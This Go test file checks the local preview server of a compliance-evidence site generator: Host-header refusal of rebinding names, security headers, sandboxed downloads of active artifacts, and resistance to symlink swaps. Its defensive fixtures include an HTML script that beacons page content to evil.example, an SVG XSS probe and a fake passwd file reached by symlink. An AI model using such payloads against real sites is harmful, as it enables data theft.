package serve_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/assurehq/assure/generator"
	"github.com/assurehq/assure/generator/diag"
	"github.com/assurehq/assure/generator/render"
	"github.com/assurehq/assure/generator/serve"
)

// guarded serves dir as `assure serve` does: behind the Host check, with
// the security headers.
func guarded(t *testing.T, dir string) *httptest.Server {
	t.Helper()
	build := func() (*render.Site, diag.List, error) {
		site, res, err := generator.Build(dir, generator.BuildOptions{Reload: serve.ReloadScript, Lazy: true, Options: generator.Options{NoHistory: true}})
		return site, res.Diagnostics, err
	}
	live, diags, err := serve.NewLive(dir, build)
	if err != nil {
		t.Fatal(err)
	}
	if errs, _ := diags.Counts(); errs > 0 {
		t.Fatalf("the repository does not check:\n%v", diags)
	}
	srv := httptest.NewUnstartedServer(nil)
	srv.Config.Handler = serve.Guard(live, srv.Listener.Addr().String())
	srv.Start()
	t.Cleanup(srv.Close)
	return srv
}

func evidenceRepo(t *testing.T) string {
	dir := t.TempDir()
	write(t, dir, "assure.yaml", config)
	write(t, dir, "controls/c.yaml", controls)
	write(t, dir, "policies/access.md", policy("POL-001", "Access Control Policy"))
	write(t, dir, "evidence/e.md", "---\nid: EV-001\ntitle: Review\ncontrols: [SEC-001]\ncollected: 2026-08-01\ntype: report\nartifacts: [report.html, chart.SVG, rows.csv]\n---\n")
	write(t, dir, "evidence/report.html", "<script>fetch('/').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))</script>")
	write(t, dir, "evidence/chart.SVG", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)
	write(t, dir, "evidence/rows.csv", "a,b\n1,2\n")
	return dir
}

func fetch(t *testing.T, srv *httptest.Server, host, path string) (*http.Response, string) {
	t.Helper()
	req, err := http.NewRequest("GET", srv.URL+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Host = host
	resp, err := srv.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return resp, string(body)
}

func TestServeRefusesAForgedHost(t *testing.T) {
	srv := guarded(t, evidenceRepo(t))
	port := srv.Listener.Addr().String()[strings.LastIndex(srv.Listener.Addr().String(), ":"):]
	for _, host := range []string{"evil.example" + port, "evil.example", "127.0.0.1.nip.io" + port, "localhost"} {
		resp, body := fetch(t, srv, host, "/policies/pol-001/")
		if resp.StatusCode != http.StatusMisdirectedRequest || strings.Contains(body, "Access Control Policy") {
			t.Errorf("Host %s: %d %q, want 421 without the page", host, resp.StatusCode, body)
		}
		if !strings.Contains(body, "localhost") {
			t.Errorf("Host %s: the refusal %q does not say which names are served", host, body)
		}
	}
	for _, host := range []string{srv.Listener.Addr().String(), "localhost" + port, "LOCALHOST" + port, "127.0.0.1" + port, "[::1]" + port} {
		if resp, body := fetch(t, srv, host, "/policies/pol-001/"); resp.StatusCode != http.StatusOK || !strings.Contains(body, "Access Control Policy") {
			t.Errorf("Host %s: %d, want the page", host, resp.StatusCode)
		}
	}
}

func TestServeSendsSecurityHeadersOnEveryResponse(t *testing.T) {
	srv := guarded(t, evidenceRepo(t))
	host := srv.Listener.Addr().String()
	for _, path := range []string{"/", "/policies/pol-001/", "/no/such/page", serve.ReloadScript, "/evidence/ev-001/files/rows.csv"} {
		resp, _ := fetch(t, srv, host, path)
		h := resp.Header
		if csp := h.Get("Content-Security-Policy"); !strings.Contains(csp, "frame-ancestors 'none'") || !strings.Contains(csp, "script-src 'self'") {
			t.Errorf("%s: Content-Security-Policy %q", path, csp)
		}
		if h.Get("X-Content-Type-Options") != "nosniff" || h.Get("X-Frame-Options") != "DENY" || h.Get("Referrer-Policy") != "no-referrer" {
			t.Errorf("%s: headers %v", path, h)
		}
	}
	resp, _ := fetch(t, srv, "evil.example", "/")
	if resp.Header.Get("X-Content-Type-Options") != "nosniff" {
		t.Error("a refused request has no security headers")
	}
}

func TestServeSendsActiveArtifactsAsSandboxedDownloads(t *testing.T) {
	srv := guarded(t, evidenceRepo(t))
	host := srv.Listener.Addr().String()
	for _, name := range []string{"report.html", "chart.SVG"} {
		resp, body := fetch(t, srv, host, "/evidence/ev-001/files/"+name)
		h := resp.Header
		if resp.StatusCode != http.StatusOK || !strings.Contains(body, "<script>") {
			t.Fatalf("%s: %d %q", name, resp.StatusCode, body)
		}
		if h.Get("Content-Disposition") != `attachment; filename="`+name+`"` || h.Get("Content-Type") != "application/octet-stream" {
			t.Errorf("%s: sent as %q, %q; want an attachment", name, h.Get("Content-Disposition"), h.Get("Content-Type"))
		}
		if csp := h.Get("Content-Security-Policy"); !strings.HasPrefix(csp, "sandbox") || !strings.Contains(csp, "default-src 'none'") {
			t.Errorf("%s: Content-Security-Policy %q", name, csp)
		}
	}
	resp, _ := fetch(t, srv, host, "/evidence/ev-001/files/rows.csv")
	if d := resp.Header.Get("Content-Disposition"); d != "" || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
		t.Errorf("a CSV artifact is sent as %q, %q", d, resp.Header.Get("Content-Type"))
	}
}

// An artifact replaced by a link to a file outside the repository after
// the build is not served: the build's reading is.
func TestServeDoesNotFollowAnArtifactSwappedAfterTheBuild(t *testing.T) {
	dir := evidenceRepo(t)
	srv := guarded(t, dir)
	secret := filepath.Join(t.TempDir(), "passwd")
	if err := os.WriteFile(secret, []byte("root:x:0:0:SECRET\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	csv := filepath.Join(dir, "evidence/rows.csv")
	if err := os.Remove(csv); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(secret, csv); err != nil {
		t.Fatal(err)
	}
	resp, body := fetch(t, srv, srv.Listener.Addr().String(), "/evidence/ev-001/files/rows.csv")
	if strings.Contains(body, "SECRET") {
		t.Fatalf("served the file the artifact now links to: %d %q", resp.StatusCode, body)
	}
	if resp.StatusCode != http.StatusOK || body != "a,b\n1,2\n" {
		t.Errorf("%d %q, want the artifact the build read", resp.StatusCode, body)
	}
}
